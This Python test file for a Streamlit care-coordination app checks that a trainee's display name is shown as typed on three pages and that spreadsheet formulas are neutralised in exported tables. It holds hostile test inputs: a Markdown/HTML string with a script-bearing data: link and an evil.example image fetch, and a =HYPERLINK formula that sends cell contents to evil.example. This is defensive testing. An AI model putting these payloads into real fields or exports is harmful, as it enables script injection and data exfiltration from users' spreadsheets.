"""A trainee's display name is whatever someone typed. A lead who opens Team readiness, People or Rate a
trainee sees it as typed: no link, no image fetched from elsewhere, no colour or LaTeX; and the tables
that show it hand the toolbar's "Download as CSV" a cell no spreadsheet runs as a formula."""

from __future__ import annotations

from carecoord import db as database
from tests.app.conftest import titles
from tests.streamlit_markdown import read

READINESS = "carecoord/ui/app_pages/team_readiness.py"
PEOPLE = "carecoord/ui/app_pages/people.py"
RATE = "carecoord/ui/app_pages/rate_trainee.py"

HOSTILE = ("[Sam](data:text/html,<script>alert(1)</script>) ![](http://evil.example/a.png) <img src=x> "
           ":red[big] :material/home: www.evil.example $x$")
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Sam")'
ACTIVE = {"link", "image", "HTML", "LaTeX", "autolink", "e-mail link", "icon", "emoji or logo", "directive"}
# Streamlit shows these as the characters given, never as Markdown (and so they are not escaped).
NOT_MARKDOWN = {"arrow_data_frame", "vega_lite_chart", "graphviz_chart", "html", "code", "text", "text_input",
                "text_area"}
PLAIN_OPTIONS = {"selectbox", "multiselect"}


def rename_trainee(path, name: str) -> None:
    db = database.connect(path)
    person_id = db.execute("SELECT id FROM person WHERE username = 'demo-trainee'").fetchone()[0]
    with database.write(db):
        db.execute("UPDATE person SET display_name = ? WHERE id = ?", [name, person_id])
    db.close()


def markdown_strings(at) -> list[str]:
    """Every string of the page that Streamlit reads as Markdown: bodies, headings, captions, alerts, and
    the labels, help and options of widgets, expanders and page links."""
    found: list[str] = []

    def strings(kind: str, message, field_path: str = "") -> None:
        for descriptor, value in message.ListFields():
            name = field_path + descriptor.name
            values = value if descriptor.is_repeated else [value]
            if descriptor.type == descriptor.TYPE_MESSAGE:
                for item in values:
                    strings(kind, item, name + ".")
            elif descriptor.type == descriptor.TYPE_STRING and not (kind in PLAIN_OPTIONS and name == "options"):
                found.extend(values)

    def walk(node) -> None:
        kind = getattr(node, "type", "")
        if kind not in NOT_MARKDOWN and hasattr(getattr(node, "proto", None), "ListFields"):
            strings(kind, node.proto)
        for child in getattr(node, "children", {}).values():
            walk(child)

    walk(at._tree)
    return found


def shown_names(at) -> list[str]:
    """What the page shows wherever the name went into Markdown; fails on anything active in it."""
    shown = []
    for markdown in markdown_strings(at):
        if "evil" in markdown:
            reading = read(markdown)
            assert not ACTIVE & set(reading.found), (markdown, reading.found)
            shown.append(reading.text)
    return shown


def test_a_hostile_name_reads_as_typed_on_team_readiness(app_as, app_env):
    rename_trainee(app_env, HOSTILE)
    at = app_as("lead").switch_page(READINESS).run()
    assert titles(at) == ["Team readiness"]
    shown = shown_names(at)
    assert shown and all(HOSTILE in text for text in shown)  # the below-target lists and the calibration caption
    assert any(text.startswith("No observer rating") for text in shown)
    assert HOSTILE in set(at.dataframe[0].value["Person"])
    assert at.header[-1].value == "People gaps and system gaps"  # the page ran to its end


def test_a_hostile_name_reads_as_typed_on_rate_a_trainee(app_as, app_env):
    rename_trainee(app_env, HOSTILE)
    at = app_as("lead").switch_page(RATE).run()
    trainee = at.selectbox[0]
    assert HOSTILE in trainee.options  # a selectbox option is not Markdown: shown as typed
    trainee.select_index(trainee.options.index(HOSTILE)).run()
    # The demo lead has rated the demo trainee before: the page shows that rating, then offers a new one.
    start = next(b for b in at.button if b.label.startswith("Start a new rating of"))
    assert read(start.label).text == f"Start a new rating of {HOSTILE}"
    assert not ACTIVE & set(read(start.label).found)
    shown = shown_names(at)
    assert shown[-1] == f"Start a new rating of {HOSTILE}"
    assert shown[0].startswith(f"Your rating of {HOSTILE}, ")


def test_a_lead_adds_someone_with_a_hostile_name_on_people(app_as):
    at = app_as("lead").switch_page(PEOPLE).run()
    inputs = {t.label: t for t in at.text_input}
    inputs["Name"].input(HOSTILE)
    inputs["Username"].input("sam-h")
    inputs["Temporary password (they choose their own at first sign-in)"].input("temporary-123")
    next(b for b in at.button if b.label == "Add person").click()
    at.run()
    assert titles(at) == ["People"]
    assert shown_names(at) == [f"Added {HOSTILE}. Give them their username and temporary password."]
    assert HOSTILE in set(at.dataframe[0].value["Name"])
    assert any(option.startswith(HOSTILE) for option in at.selectbox[-1].options)  # not Markdown: as typed


def test_a_formula_for_a_name_is_neutralised_in_the_tables(app_as, app_env):
    rename_trainee(app_env, FORMULA)
    readiness = app_as("lead").switch_page(READINESS).run()
    heatmap = readiness.dataframe[0].value
    assert "'" + FORMULA in set(heatmap["Person"]) and FORMULA not in set(heatmap["Person"])
    assert 3 in set(heatmap["Target"])  # numbers stay numbers
    people = app_as("lead").switch_page(PEOPLE).run()
    assert "'" + FORMULA in set(people.dataframe[0].value["Name"])
